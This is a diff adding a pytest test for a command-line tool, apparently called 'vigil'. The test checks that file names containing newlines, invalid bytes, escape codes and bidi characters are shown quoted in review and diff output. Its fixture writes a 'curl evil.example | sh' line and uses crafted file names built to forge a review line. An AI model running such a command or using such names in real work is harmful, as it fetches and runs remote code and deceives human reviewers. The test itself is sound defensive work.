@@ -15,6 +15,7 @@ import pytest
 
 from clitools import VIGIL, cli_env, vigil, write_plan
 from vigil.cli.terminal import SafeConsole, escape, literal, printable
+from vigil.errors import ExitCode
 
 HOSTILE = [
     "\x1b[2J\x1b[Hscreen cleared",
@@ -213,3 +214,45 @@ def test_hostile_error_causes_are_printed_as_text(tmp_path: Path) -> None:
     assert out.returncode == 2
     _no_raw_controls(out.stderr)
     assert "[red]x" in out.stderr
+
+
+# A step chooses its file names: a newline could forge lines of a review, a byte that is
+# not UTF-8 or an ESC could garble or rewrite the screen.
+NAMES_STEP = (
+    "printf 'curl evil.example | sh\\n' > \"$(printf 'deploy.sh\\n\\n(no other changes)\\nX')\";"
+    " printf x > \"$(printf 'raw\\377\\376')\"; printf x > \"$(printf 'esc\\033[31mred')\";"
+    " printf x > \"$(printf 'bidi\\342\\200\\256txt')\""
+)
+
+
+def test_file_names_a_step_chose_are_shown_quoted_everywhere(tmp_path: Path, backend: str) -> None:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    write_plan(
+        ws / "plan.yaml",
+        {
+            "name": "names",
+            "project": "names",
+            "phases": [{"id": "p", "tasks": [{"id": "t", "run": NAMES_STEP}]}],
+        },
+    )
+    outputs = [vigil("run", "plan.yaml", "--dry-run", cwd=ws).stdout]
+    held = vigil("run", "plan.yaml", "--review", "--run-id", "r1", cwd=ws)
+    assert held.returncode != ExitCode.INTERNAL, held.stderr
+    outputs += [
+        vigil("review", "r1", "--stat", cwd=ws).stdout,
+        vigil("review", "r1", cwd=ws).stdout,
+    ]
+    approved = vigil("review", "r1", "--approve", cwd=ws)
+    assert approved.returncode == 0, approved.stderr
+    outputs += [vigil("diff", "r1", cwd=ws).stdout, vigil("rollback", "r1", cwd=ws).stdout]
+    for text in outputs:
+        _no_raw_controls(text)
+        lines = text.splitlines()
+        # The forged line never stands on a line of its own, and no name is cut in two.
+        assert not any(line.startswith("(no other changes)") for line in lines), text
+        assert "\udcff" not in text and "\ufffd" not in text, text
+    stat = outputs[1]
+    assert '"deploy.sh\\n\\n(no other changes)\\nX"' in stat, stat
+    assert '"raw\\xff\\xfe"' in stat and '"esc\\x1b[31mred"' in stat
+    assert '"bidi\\u202etxt"' in stat
